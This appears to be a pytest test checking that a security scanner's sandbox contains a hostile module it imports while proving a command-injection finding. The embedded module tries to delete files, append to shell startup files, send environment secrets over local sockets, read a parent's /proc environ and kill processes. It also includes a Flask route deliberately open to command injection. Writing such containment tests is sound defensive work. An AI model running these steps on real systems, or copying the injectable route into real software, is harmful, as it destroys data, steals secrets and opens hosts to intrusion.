"""A module that attacks whoever imports it: proven vulnerable, and nothing outside of the sandbox has changed."""

from __future__ import annotations

import os
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

CANARY = "canary-77f2e1"

# Every attack is tried on its own, so that one that is stopped does not save the next. The last lines are an ordinary
# defect: its proof shows that the module above it was imported, so that the attacks did run.
HOSTILE = """\
import ctypes
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import urllib.request


def attempt(attack):
    try:
        attack()
    except BaseException:
        pass


def fork_and_stay():
    if os.fork() == 0:
        attempt(os.setsid)
        attempt(lambda: os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", {marker!r}]))
        os._exit(0)


def tell(address):
    with socket.create_connection(address, timeout=1) as connection:
        connection.sendall(repr(dict(os.environ)).encode())


def read_memory_of_parent():
    with open(f"/proc/{{os.getppid()}}/environ", "rb") as file, open({loot!r}, "wb") as out:
        out.write(file.read())


attempt(lambda: os.remove({victim!r}))
attempt(lambda: shutil.rmtree({folder!r}))
attempt(lambda: open({victim!r}, "w").write("pwned"))
attempt(lambda: os.truncate({victim!r}, 0))
attempt(lambda: os.rename({victim!r}, {victim!r} + ".moved"))
attempt(lambda: os.chmod({victim!r}, 0o777))
attempt(lambda: os.symlink("/etc/passwd", {folder!r} + "/link"))
attempt(lambda: open({loot!r}, "w").write(repr(dict(os.environ))))
attempt(lambda: open(__file__, "a").write("# pwned"))
attempt(lambda: open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "pwned.py"), "w").write("pwned"))
attempt(lambda: open(os.path.expanduser("~/.bashrc"), "a").write("pwned"))
attempt(lambda: open({home!r} + "/.profile", "a").write("pwned"))
attempt(lambda: tell(("127.0.0.1", {port})))
attempt(lambda: urllib.request.urlopen("http://127.0.0.1:{port}/", timeout=1))
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"pwned", ("127.0.0.1", {port})))
attempt(lambda: socket.socket(socket.AF_UNIX).connect({unix!r}))
attempt(lambda: os.kill({bystander}, signal.SIGKILL))
attempt(lambda: subprocess.Popen(["kill", "-9", "{bystander}"]).wait())
attempt(fork_and_stay)
attempt(lambda: threading.Thread(target=os.kill, args=({bystander}, signal.SIGKILL)).start())
attempt(read_memory_of_parent)
attempt(lambda: ctypes.CDLL(None).kill({bystander}, 9))
attempt(lambda: sys.stdout.write(repr(dict(os.environ))))

from flask import Flask, request

app = Flask(__name__)


@app.get("/ping")
def ping():
    os.system("ping -c 1 " + request.args.get("host", ""))
    return "done"
"""


@pytest.fixture
def bystander():
    """A process that minds its own business."""
    process = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"])
    yield process
    process.send_signal(signal.SIGKILL)
    process.wait()


@pytest.fixture
def listeners(tmp_path):
    """Sockets nobody should talk to."""
    with (
        socket.socket() as tcp,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp,
        socket.socket(socket.AF_UNIX) as unix,
    ):
        tcp.bind(("127.0.0.1", 0))
        port = tcp.getsockname()[1]
        udp.bind(("127.0.0.1", port))
        unix.bind(str(tmp_path / "u"))
        for listener in (tcp, unix):
            listener.listen()
        for listener in (tcp, udp, unix):
            listener.setblocking(False)
        yield {"tcp": tcp, "udp": udp, "unix": unix}


def processes_with(marker: str) -> list[str]:
    return [
        entry.name
        for entry in Path("/proc").iterdir()
        if entry.name.isdigit() and marker.encode() in read_quietly(entry / "cmdline")
    ]


def read_quietly(path: Path) -> bytes:
    try:
        return path.read_bytes()
    except OSError:
        return b""


def snapshot(folder: Path) -> dict[str, tuple[int, int, bytes]]:
    return {
        str(path.relative_to(folder)): (path.stat().st_mode, path.stat().st_mtime_ns, read_quietly(path))
        for path in sorted(folder.rglob("*"))
        if ".git" not in path.parts
    }


@pytest.mark.online
def test_importing_it_changes_nothing_outside_of_the_sandbox(command_line, repository, tmp_path, bystander, listeners):
    marker = f"stay-{os.getpid()}-{time.monotonic_ns()}"
    outside = tmp_path / "outside"
    (outside / "folder").mkdir(parents=True)
    (outside / "victim.txt").write_text("precious")
    (outside / "folder" / "kept.txt").write_text("precious, too")
    source = HOSTILE.format(
        victim=str(outside / "victim.txt"),
        folder=str(outside / "folder"),
        loot=str(outside / "loot.txt"),
        unix=str(tmp_path / "u"),
        home=str(command_line.home),
        port=listeners["tcp"].getsockname()[1],
        bystander=bystander.pid,
        marker=marker,
    )
    root = repository({"hostile.py": source})
    before = snapshot(outside), snapshot(root)
    done = command_line.scan("--select=CWE-78", ".", cwd=root, env={"MY_SECRET_TOKEN": CANARY})
    assert "error" in {result.level for result in done.results if result.cwe == 78}, (
        f"without a proof nothing shows that the module was imported at all\n{done.said}"
    )
    assert (snapshot(outside), snapshot(root)) == before
    assert bystander.poll() is None
    assert processes_with(marker) == []
    for name in ("tcp", "unix"):
        with pytest.raises(BlockingIOError):
            listeners[name].accept()
    with pytest.raises(BlockingIOError):
        listeners["udp"].recv(100)
    assert not [name for name in (".profile", ".bashrc") if (command_line.home / name).exists()]
    everything = done.said + done.sarif_bytes.decode() + repr(done.json)
    kept = b"".join(read_quietly(path) for path in command_line.home.rglob("*") if path.is_file())
    assert CANARY not in everything
    assert CANARY.encode() not in kept
